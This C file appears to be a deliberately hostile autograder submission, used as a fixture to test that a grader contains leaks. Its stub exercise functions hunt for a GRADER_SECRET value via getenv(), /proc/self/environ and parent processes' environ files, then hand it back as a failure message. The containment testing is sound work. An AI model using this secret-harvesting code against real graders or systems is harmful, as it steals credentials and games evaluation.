/*
 * HOSTILE SUBMISSION leak-environ (graded by tests/grading/test_hostile.sh; deserves 0 points).
 * Attacks: the grader's environment. Each exercise looks for GRADER_SECRET (which the checker
 * puts in the environment grade.sh runs with) and hands its value back as the test's failure
 * message: 1.2 getenv(), 1.3 /proc/self/environ, 1.4 its ancestors' /proc/PID/environ.
 * Only that variable is ever read out, never the rest of the environment.
 * Contained: the secret appears nowhere in results.json, summary.tsv or the report.
 */
#include HOSTILE_TOOLKIT /* tests/grading/hostile/toolkit.c, put here by test_hostile.sh */

static const char *h_secret_in(const char *env, long n) {
    for (long i = 0; i < n; i += (long)strlen(env + i) + 1)
        if (!strncmp(env + i, "GRADER_SECRET=", 14)) return env + i + 14;
    return NULL;
}

void ex1_1_broadcast_by_hand(BroadcastByHand *answer) { memset(answer, 0, sizeof *answer); }

int ex1_2_broadcast_shapes(const int64_t *a, int a_rank, const int64_t *b, int b_rank, int64_t *out, int *out_rank) {
    (void)a, (void)a_rank, (void)b, (void)b_rank, (void)out, (void)out_rank;
    const char *secret = getenv("GRADER_SECRET");
    if (secret) h_leak("getenv GRADER_SECRET", secret);
    return -2;
}

int ex1_3_broadcast_strides(const int64_t *src, int src_rank, const int64_t *src_strides, const int64_t *target,
                            int target_rank, int64_t *out_strides) {
    (void)src, (void)src_rank, (void)src_strides, (void)target, (void)target_rank, (void)out_strides;
    static char env[H_BIG];
    long n = h_read("/proc/self/environ", env, sizeof env);
    const char *secret = n > 0 ? h_secret_in(env, n) : NULL;
    if (secret) h_leak("/proc/self/environ GRADER_SECRET", secret);
    return -2;
}

void ex1_4_broadcast_map(const int64_t *target, int target_rank, const int64_t *src, int src_rank, int64_t *map) {
    (void)target, (void)target_rank, (void)src, (void)src_rank, (void)map;
    static char env[H_BIG];
    int pids[32], n = h_ancestors(pids, 32);
    for (int i = 0; i < n; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", pids[i]);
        long len = h_read(path, env, sizeof env);
        const char *secret = len > 0 ? h_secret_in(env, len) : NULL;
        if (secret) {
            snprintf(path, sizeof path, "/proc/%d/environ GRADER_SECRET", pids[i]);
            h_leak(path, secret);
        }
    }
}

void ex1_5_sum_to_shape(const float *grad, const int64_t *shape, int rank, float *out, const int64_t *out_shape,
                        int out_rank) {
    (void)grad, (void)shape, (void)rank, (void)out, (void)out_shape, (void)out_rank; /* out left as it came */
}
